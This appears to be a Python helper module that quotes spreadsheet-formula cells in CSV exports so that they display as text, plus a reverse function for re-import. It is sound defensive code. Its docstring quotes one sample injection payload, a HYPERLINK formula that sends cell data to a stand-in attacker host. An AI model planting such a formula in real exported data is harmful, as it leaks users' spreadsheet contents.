"""CSV cells that a spreadsheet shows as text, whatever someone typed into them.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula by Excel, LibreOffice and Google Sheets: a resident's answer or
name such as ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would run in the
organiser's spreadsheet. Such a cell is written with a leading ``'`` (the usual
defence, as ``bot/web/csv_export.py`` does); numbers are left alone.

So that :func:`uncell` gives back exactly what was written, a cell whose leading
apostrophes come before a would-be formula (someone typed ``'=x``) gets one more
``'`` as well: ``''=x`` reads back as ``'=x``.
"""

from __future__ import annotations

import re

_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")


def _quoted(text: str) -> bool:
    """Whether ``cell`` puts a ``'`` before ``text``."""
    rest = text.lstrip("'")
    return rest.startswith(_FORMULA) and not _NUMBER.match(rest)


def cell(value: object) -> object:
    """``value`` as a CSV writer should get it: text that would be a formula is quoted."""
    if isinstance(value, str) and _quoted(value):
        return "'" + value
    return value


def row(values: list[object] | tuple[object, ...]) -> list[object]:
    return [cell(v) for v in values]


def uncell(value: str) -> str:
    """A cell read back: the ``'`` that ``cell`` put before a would-be formula taken
    off, so a file we wrote can be imported again as it was."""
    if value.startswith("'") and _quoted(value[1:]):
        return value[1:]
    return value
